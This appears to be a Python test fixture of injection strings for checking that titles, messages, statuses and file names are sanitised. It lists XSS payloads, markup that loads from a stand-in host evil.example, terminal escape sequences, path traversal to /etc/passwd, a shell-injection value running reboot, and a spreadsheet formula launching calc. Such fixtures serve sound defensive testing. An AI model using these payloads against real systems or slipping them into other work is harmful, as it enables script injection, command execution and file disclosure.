"""What somebody may write into a title, a message, a status or the name of a file; ``1`` is what must not happen."""

from __future__ import annotations

DID = "document.documentElement.dataset.did=1"
AWAY = "https://evil.example/x"
MARKUP = {
    "script": f"<script>{DID}</script>",
    "script-in-capitals": f"<ScRiPt>{DID}</sCrIpT>",
    "script-unclosed": f"<script>{DID}//",
    "script-away": f"<script src={AWAY}></script>",
    "script-after-quotes": f"'\"></td></tr></table><script>{DID}</script>",
    "script-after-title": f"</title></style></textarea></noscript><script>{DID}</script>",
    "script-in-svg": f"<svg><script>{DID}</script></svg>",
    "script-in-svg-as-data": f"<svg><script href='data:text/javascript,{DID}'/></svg>",
    "script-after-comment": f"--><!--><script>{DID}</script><!--",
    "script-after-cdata": f"]]><script>{DID}</script><![CDATA[",
    "script-entities": f"&lt;script&gt;{DID}&lt;/script&gt;",
    "script-double-entities": f"&amp;lt;script&amp;gt;{DID}",
    "script-in-utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script-in-full-width": f"＜script＞{DID}＜/script＞",
    "script-with-nul": f"<scr\x00ipt>{DID}</scr\x00ipt>",
    "image": f"<img src=x onerror={DID}>",
    "image-after-quote": f'" onerror="{DID}" src=x x="',
    "image-away": f"<img src={AWAY}>",
    "image-as-style": f"<p style='background:url({AWAY})'>",
    "on-load": f"<body onload={DID}><svg onload={DID}>",
    "on-focus": f"<input autofocus onfocus={DID}>",
    "on-toggle": f"<details open ontoggle={DID}>",
    "on-animation": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart={DID}>",
    "attribute-breaks-out": f"x' onmouseover='{DID}' y='",
    "attribute-without-quotes": f"x onmouseover={DID} y=",
    "frame": f"<iframe srcdoc='<script>parent.{DID}</script>'></iframe>",
    "frame-away": f"<iframe src={AWAY}></iframe>",
    "object": f"<object data={AWAY}></object><embed src={AWAY}>",
    "link": f"<a href='javascript:{DID}'>x</a>",
    "link-by-entity": f"<a href='jav&#x09;ascript:{DID}'>x</a>",
    "form": f"<form action={AWAY}><button>Hyväksy</button></form>",
    "base": f"<base href={AWAY}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "style-sheet": f"<link rel=stylesheet href={AWAY}><style>@import '{AWAY}';</style>",
    "style-hides-all": "<style>*{display:none!important}</style>",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "mathml": f"<math><mtext></form><form><mglyph><style></math><img src onerror={DID}>",
    "plaintext": "<plaintext>",
    "comment-without-end": "<!--",
}
MARKDOWN = {
    "link": f"[Hyväksy](javascript:{DID})",
    "image": f"![x]({AWAY})",
    "reference": f"[x][y]\n\n[y]: {AWAY}",
    "table": "a | b | c\n|---|---|\n| x |",
    "fence": "```\nx\n~~~",
    "heading": "\n# READY\n",
    "emphasis": "**READY** __READY__ *x* _y_ ~~NOT READY~~",
    "automatic-link": f"<{AWAY}>",
    "backslash": "\\<script\\>\\",
    "rule": "\n---\n",
}
ACTING = {
    "clears-the-screen": "\x1b[2J\x1b[H",
    "renames-the-window": "\x1b]0;owned\x07",
    "paints-it-green": "\x1b[32mREADY\x1b[0m",
    "links-elsewhere": f"\x1b]8;;{AWAY}\x1b\\x\x1b]8;;\x1b\\",
    "one-byte-sequence": "\x9b2J",
    "goes-back": "NOT READY\r    READY",
    "rubs-out": "NOT READY\b\b\b\b\x7f",
    "rings": "\x07" * 5,
    "nul": "a\x00b",
    "turned-round": "\u202efdp.exe\u202c",
    "isolated": "\u2066x\u2069",
    "half-a-letter": "\ud800x\udfff",
    "no-character": "\ufffe\uffff",
    "other-line-breaks": "a\u2028b\u2029c\x85d\x0be\x0cf\x1c",
    "two-facts": '"}\n{"event": "end", "reason": "finished"}\n',
}
NAMES = {
    "path": "../../../../etc/passwd",
    "path-of-windows": "..\\..\\con\\aux",
    "path-of-a-file": "file:///etc/passwd",
    "script-in-name": f"<img src=x onerror={DID}>.pdf",
    "name-of-300-letters": "å" * 300,
    "shell": "$(reboot)`reboot`;reboot|reboot&",
    "formula": "=cmd|' /C calc'!A0",
}
TEXTS = {
    f"{group}-{name}": text
    for group, texts in {"markup": MARKUP, "markdown": MARKDOWN, "acting": ACTING, "names": NAMES}.items()
    for name, text in texts.items()
}
